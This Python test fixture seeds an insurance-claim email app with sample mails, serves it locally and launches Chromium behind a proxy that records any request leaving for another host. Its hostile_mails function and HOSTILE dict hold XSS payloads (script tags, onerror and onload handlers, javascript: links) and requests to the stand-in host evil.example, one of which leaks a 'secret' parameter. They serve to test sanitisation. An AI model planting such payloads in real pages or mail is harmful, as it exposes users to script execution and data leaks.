"""The workspace as the browser tests meet it: a store seeded by the real pipeline, a team,
the app served by uvicorn on a free port in a background thread, and Chromium.

`running_workspace(home)` runs a handful of generated mails through `rpa.ingestion.process_inputs`
(plain claim mails, a PDF whose policy number is printed at a known place, a photo of the same
form read by OCR, and a corpus of hostile mails), adds two agents, a supervisor and an admin,
and serves `rpa.web.create_app` until the block ends. `Sessions` logs each user in once through
the login form and hands out browser contexts that carry their session.
"""

from __future__ import annotations

import socket
import socketserver
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from urllib.parse import urlsplit

import docbuilder
import locatedoc
from conftest import make_mail
from webclient import PASSWORD, TEAM, add_team, seed

from rpa.config import Settings, load_settings
from rpa.store import Store
from rpa.web import create_app

__all__ = [
    "CHROMIUM",
    "HOSTILE",
    "PASSWORD",
    "PHOTO_DPI",
    "SUBJECTS",
    "TEAM",
    "OutsideTrap",
    "Sessions",
    "Workspace",
    "hostile_mails",
    "launch_chromium",
    "log_in",
    "running_workspace",
    "serving",
    "workspace_mails",
]

CHROMIUM = Path("/usr/bin/chromium")  # Debian's; `playwright install` cannot download here
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    # Chromium's own calls home (form autofill hints): the trap must see only what pages ask for.
    "--disable-features=AutofillServerCommunication",
]
VIEWPORT = {"width": 1280, "height": 900}
PHOTO_DPI = 120  # enough for RapidOCR to read the form, small enough to read it fast

# source -> subject of the mails the flows work on, in the order they arrive.
SUBJECTS = {
    "suivi-1.eml": "Suivi de dossier 1",
    "suivi-2.eml": "Suivi de dossier 2",
    "suivi-3.eml": "Suivi de dossier 3",
    "correction.eml": "Contrat à corriger",
    "edit.eml": "Réponse à reprendre",
    "reject.eml": "Demande à refuser",
    "shared.eml": "Dossier partagé",
    "assign.eml": "Dossier à confier",
    "pdf.eml": "Constat en PDF",
    "photo.eml": "Photo du constat",
}
# What a hostile payload does when it runs: the tests look for these.
PWN = "window.__pwned=1;document.title='pwned';alert(1)"
HOSTILE = {
    "hostile-subject.eml": '"><script>alert(1)</script>',
    "hostile-html.eml": "Sinistre <b>urgent</b>",
    "hostile-files.eml": "Pièces <img src=x onerror=alert(1)>",
}


def _claim_text(n: int, policy: str) -> str:
    return (
        f"Bonjour,\n\nJe déclare un dégât des eaux survenu le 1{n} mars 2025 dans ma cuisine.\n"
        f"Mon contrat est le {policy}.\n\nCordialement,\nJeanne Martin"
    )


def workspace_mails() -> list[tuple[str, bytes]]:
    """The mails the flows review: plain claims, then the PDF and the photo of the claim form."""
    mails = []
    for n, (source, subject) in enumerate(SUBJECTS.items()):
        if source in ("pdf.eml", "photo.eml"):
            continue
        mails.append(
            (
                source,
                make_mail(
                    _claim_text(n % 10, f"HAB-{4000 + n}-22"),
                    subject=subject,
                    sender=f"Jeanne Martin <jeanne{n}@example.fr>",
                    message_id=f"<{source}@example.fr>",
                ),
            )
        )
    photo = docbuilder.image_bytes(locatedoc.form_picture(PHOTO_DPI), "PNG")
    documents = {
        "pdf.eml": ("constat.pdf", "application/pdf", locatedoc.claim_form_pdf()),
        "photo.eml": ("photo-constat.png", "image/png", photo),
    }
    for source, attachment in documents.items():
        # The policy number is only in the attachment: its box is drawn over the page.
        body = "Bonjour,\n\nVeuillez trouver ci-joint ma déclaration.\n\nJean Dupont"
        mails.append(
            (
                source,
                make_mail(
                    body,
                    subject=SUBJECTS[source],
                    sender="Jean Dupont <jean.dupont@example.fr>",
                    message_id=f"<{source}@example.fr>",
                    attachments=[attachment],
                ),
            )
        )
    return mails


def hostile_mails() -> list[tuple[str, bytes]]:
    """Mails whose every part tries to run script, leave for evil.example, or both."""
    script = f"<script>{PWN}</script>"
    html = f"""<html><head><style>@import url(http://evil.example/import.css);
body {{ background: url(http://evil.example/background.png) }}</style>
<link rel="stylesheet" href="http://evil.example/link.css"></head>
<body onload="{PWN}"><p>Bonjour {script}</p>
<img src=x onerror="{PWN}"><img src="http://evil.example/track.png">
<a href="javascript:{PWN}">voir</a> <a href="https://www.example.org/ok">lien</a>
<div style="background:url(http://evil.example/leak?secret=1)">style</div>
<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script>
<image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/form"><input name=x><button>ok</button></form>
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
</body></html>"""
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script>'
        '<image href="http://evil.example/in-svg.png"/></svg>'
    ).encode()
    body = f'Mon contrat HAB-1234-22. {script} <img src=x onerror="{PWN}"> javascript:{PWN}'
    return [
        (
            "hostile-subject.eml",
            make_mail(
                body,
                subject=HOSTILE["hostile-subject.eml"],
                sender=f'"<img src=x onerror={PWN}>" <evil@example.fr>',
                message_id="<hostile-subject@example.fr>",
            ),
        ),
        (
            "hostile-html.eml",
            make_mail(html=html, subject=HOSTILE["hostile-html.eml"], message_id="<hostile-html@example.fr>"),
        ),
        (
            "hostile-files.eml",
            make_mail(
                "Voir les pièces jointes.",
                subject=HOSTILE["hostile-files.eml"],
                message_id="<hostile-files@example.fr>",
                attachments=[
                    ("<img src=x onerror=alert(1)>.pdf", "application/pdf", locatedoc.claim_form_pdf()),
                    ("dessin.svg", "image/svg+xml", svg),
                    ('"><script>alert(1)</script>.png', "image/png", b"\x89PNG\r\n\x1a\nbroken"),
                ],
            ),
        ),
    ]


@dataclass
class Workspace:
    """The served workspace: its address, and the store behind it (for checks)."""

    url: str
    settings: Settings
    store: Store
    ids: dict[str, int]  # mail source -> message id

    @property
    def host(self) -> str:
        return urlsplit(self.url).netloc


@contextmanager
def serving(app) -> Iterator[str]:  # noqa: ANN001 - an ASGI app
    """`app` served by uvicorn on a free port of 127.0.0.1 in a background thread; its base URL."""
    import uvicorn

    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    config = uvicorn.Config(app, log_level="warning", access_log=False, lifespan="on")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        if not thread.is_alive() or time.monotonic() > deadline:
            raise RuntimeError("uvicorn did not start serving the workspace")
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()


@contextmanager
def running_workspace(home: Path) -> Iterator[Workspace]:
    """A store in `home` seeded by the pipeline, the team in it, and the app serving it."""
    settings = load_settings(environ={"RPA_HOME": str(home), "RPA_PIPELINE_WORKERS": "1"})
    store = Store.open(settings)
    try:
        add_team(store)
        ids = seed(settings, store, workspace_mails() + hostile_mails())
        with serving(create_app(settings, store)) as url:
            yield Workspace(url, settings, store, ids)
    finally:
        store.close()


class OutsideTrap:
    """A proxy that forwards nothing: browser contexts send every request for another host than
    the app's here, and it records them. (Playwright's own request events miss what a sandboxed
    `srcdoc` iframe asks for; a proxy does not.)"""

    def __init__(self) -> None:
        self.requests: list[str] = []
        trap = self

        class _Refuse(BaseHTTPRequestHandler):
            def _refuse(self) -> None:
                trap.requests.append(f"{self.command} {self.path}")
                self.send_error(403, "rpa tests: no request may leave for another host")

            do_GET = do_POST = do_HEAD = do_PUT = do_DELETE = do_OPTIONS = do_CONNECT = _refuse

            def log_message(self, *args: object) -> None:  # quiet
                pass

        self._server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Refuse)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> OutsideTrap:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def launch_chromium(playwright):  # noqa: ANN001, ANN201 - Playwright's sync API objects
    return playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)


def log_in(page, name: str, password: str = PASSWORD) -> None:  # noqa: ANN001 - a Playwright Page
    """Log in through the form, as a person does."""
    page.goto("/login")
    page.get_by_label("User name").fill(name)
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()


@dataclass
class Sessions:
    """Browser contexts logged in as the team's users: each logs in once through the form."""

    browser: object  # playwright.sync_api.Browser
    workspace: Workspace
    trap: OutsideTrap
    _states: dict[str, dict] = field(default_factory=dict)
    _open: list = field(default_factory=list)

    def new_context(self, storage_state: dict | None = None):  # noqa: ANN201 - a BrowserContext
        context = self.browser.new_context(
            base_url=self.workspace.url,
            viewport=VIEWPORT,
            storage_state=storage_state,
            locale="en-GB",
            # Only the app is reached directly; Playwright proxies loopback too, so say which.
            proxy={"server": self.trap.url, "bypass": self.workspace.host},
        )
        context.set_default_timeout(10_000)
        self._open.append(context)
        return context

    def page_as(self, name: str):  # noqa: ANN201 - a Page in a context of its own
        if name not in self._states:
            context = self.new_context()
            page = context.new_page()
            log_in(page, name)
            page.wait_for_url("**/queue")
            self._states[name] = context.storage_state()
            context.close()
        return self.new_context(self._states[name]).new_page()

    def close_all(self) -> None:
        while self._open:
            self._open.pop().close()
